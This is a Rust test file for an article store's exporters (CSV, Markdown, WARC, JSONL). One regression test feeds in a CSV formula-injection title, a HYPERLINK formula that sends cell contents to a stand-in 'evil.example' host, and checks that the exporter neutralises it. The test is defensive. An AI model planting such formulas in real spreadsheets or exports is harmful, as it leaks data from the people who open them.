//! Export formats on a small in-memory store: CSV quoting, Markdown layout,
//! WARC record layout, and a JSONL/CSV field drift check.

use super::*;
use crate::boilerplate::LineSettings;
use crate::extract::Article;
use crate::store::{KeptHeaders, KeptHtml, NewArticle, WriteOp};

fn article_with_html(
    url: &str,
    title: &str,
    text: &str,
    page: Option<(Vec<u8>, KeptHeaders)>,
) -> NewArticle {
    NewArticle {
        url: url.into(),
        url_id: None,
        site: "a".into(),
        fetched_at: 1_000,
        article: Article {
            title: Some(title.into()),
            text: text.into(),
            ..Article::default()
        },
        lines: LineSettings {
            enabled: false,
            ..LineSettings::default()
        },
        html: page.map(|(body, headers)| KeptHtml::new(url, 200, headers, 1_000, &body).unwrap()),
    }
}

fn store_with(articles: Vec<NewArticle>) -> Store {
    let mut store = Store::open_in_memory().unwrap();
    store
        .write_batch(articles.into_iter().map(WriteOp::Article).collect())
        .unwrap();
    store
}

fn export(store: &Store, format: Format) -> (String, ExportSummary) {
    let mut out = Vec::new();
    let summary = write(store, &Selection::default(), format, &mut out).unwrap();
    (String::from_utf8_lossy(&out).into_owned(), summary)
}

#[test]
fn regression_csv_formula_cells_were_written_unchanged() {
    let mut a = article_with_html(
        "http://a.test/1",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "-2+3 is the sum.\nSecond line.",
        None,
    );
    a.article.site_name = Some("@evil".into());
    let b = article_with_html("http://a.test/2", "+1 for this", "\tTabbed.", None);
    let store = store_with(vec![a, b]);
    let (csv, _) = export(&store, Format::Csv);
    let rows: Vec<&str> = csv.split("\r\n").collect();
    assert!(
        rows[1].contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,"),
        "{csv}"
    );
    assert!(rows[1].contains(",'@evil,\"'-2+3 is the sum."), "{csv}");
    assert!(
        rows[2].contains(",'+1 for this,") && rows[2].contains(",'\tTabbed.,"),
        "{csv}"
    );
    assert!(rows[1].starts_with("1,http://a.test/1,a,"), "{csv}");
    // Asked for, the cells are written as stored.
    let (raw, _) = export(&store, Format::CsvRaw);
    assert!(
        raw.contains(",\"=HYPERLINK(") && raw.contains(",@evil,\"-2+3"),
        "{raw}"
    );
    assert!(!raw.contains('\''), "{raw}");
}

#[test]
fn csv_quotes_commas_quotes_and_line_breaks_per_rfc_4180() {
    let store = store_with(vec![article_with_html(
        "http://a.test/1",
        "Say \"hi\", world",
        "First line.\nSecond, with comma.",
        None,
    )]);
    let (csv, summary) = export(&store, Format::Csv);
    assert_eq!(summary.written, 1);
    let mut lines = csv.split("\r\n");
    assert_eq!(lines.next().unwrap(), FIELDS.join(","));
    let row = lines.collect::<Vec<_>>().join("\r\n");
    assert!(
        row.contains(",\"Say \"\"hi\"\", world\","),
        "title quoted, quotes doubled: {row}"
    );
    assert!(
        row.ends_with(",\"First line.\nSecond, with comma.\",density\r\n"),
        "{row:?}"
    );
}

#[test]
fn markdown_opens_each_article_with_title_heading_and_url() {
    let store = store_with(vec![
        article_with_html("http://a.test/1", "One", "# Not a heading\nPlain.", None),
        article_with_html("http://a.test/2", "Two", "Text two.", None),
    ]);
    let (md, summary) = export(&store, Format::Markdown);
    assert_eq!((summary.written, summary.from_stored_text), (2, 2));
    assert_eq!(
        md,
        "# One\n<http://a.test/1>\n\n\\# Not a heading\n\nPlain.\n\n\
         # Two\n<http://a.test/2>\n\nText two.\n\n"
    );
}

#[test]
fn warc_writes_kept_pages_and_counts_articles_without_one() {
    let headers = KeptHeaders {
        content_type: Some("text/html; charset=utf-8".into()),
        last_modified: None,
        etag: Some("\"abc\"".into()),
        date: Some("Thu, 26 Nov 2026 09:00:00 GMT".into()),
    };
    let store = store_with(vec![
        article_with_html(
            "http://a.test/1",
            "One",
            "Body one.",
            Some((b"<html><p>Body one.</p></html>".to_vec(), headers)),
        ),
        article_with_html("http://a.test/2", "Two", "Body two.", None),
    ]);
    let mut out = Vec::new();
    let summary = write(&store, &Selection::default(), Format::Warc, &mut out).unwrap();
    assert_eq!((summary.written, summary.skipped), (1, 1));
    // Two gzip members: warcinfo and the one response.
    let mut text = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::MultiGzDecoder::new(&out[..]), &mut text)
        .unwrap();
    let text = String::from_utf8(text).unwrap();
    assert_eq!(text.matches("WARC/1.1\r\n").count(), 2);
    assert!(text.contains("WARC-Type: response\r\n"));
    assert!(text.contains("WARC-Target-URI: http://a.test/1\r\n"));
    assert!(
        text.contains("WARC-Date: 1970-01-01T00:00:01Z\r\n"),
        "{text}"
    );
    assert!(text.contains("ETag: \"abc\"\r\n"));
    let payload = b"<html><p>Body one.</p></html>";
    assert!(text.contains(&format!(
        "WARC-Payload-Digest: {}\r\n",
        warc::sha1_base32(payload)
    )));
    assert!(text.contains(&format!("Content-Length: {}\r\n\r\n<html>", payload.len())));
}

#[test]
fn regression_export_printed_density_for_every_article_whatever_the_method() {
    let mut schema = article_with_html("http://a.test/1", "One", "Body one.", None);
    schema.article.method = crate::extract::Method::Schema;
    let mut fallback = article_with_html("http://a.test/2", "Two", "Body two.", None);
    fallback.article.method = crate::extract::Method::Fallback;
    let old = article_with_html("http://a.test/3", "Three", "Body three.", None);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("m.db");
    Store::open(&path)
        .unwrap()
        .write_batch(
            [schema, fallback, old]
                .into_iter()
                .map(WriteOp::Article)
                .collect(),
        )
        .unwrap();
    // An article stored before migration 0009 has no method recorded.
    rusqlite::Connection::open(&path)
        .unwrap()
        .execute(
            "UPDATE articles SET method = NULL WHERE url = 'http://a.test/3'",
            [],
        )
        .unwrap();
    let store = Store::open(&path).unwrap();
    let (jsonl, _) = export(&store, Format::Jsonl);
    let methods: Vec<serde_json::Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["method"].clone())
        .collect();
    assert_eq!(
        methods,
        [
            serde_json::json!("schema"),
            serde_json::json!("fallback"),
            serde_json::Value::Null
        ]
    );
    let (csv, _) = export(&store, Format::Csv);
    let ends: Vec<&str> = csv
        .split("\r\n")
        .skip(1)
        .filter(|r| !r.is_empty())
        .map(|r| r.rsplit(',').next().unwrap())
        .collect();
    assert_eq!(ends, ["schema", "fallback", ""]);
}
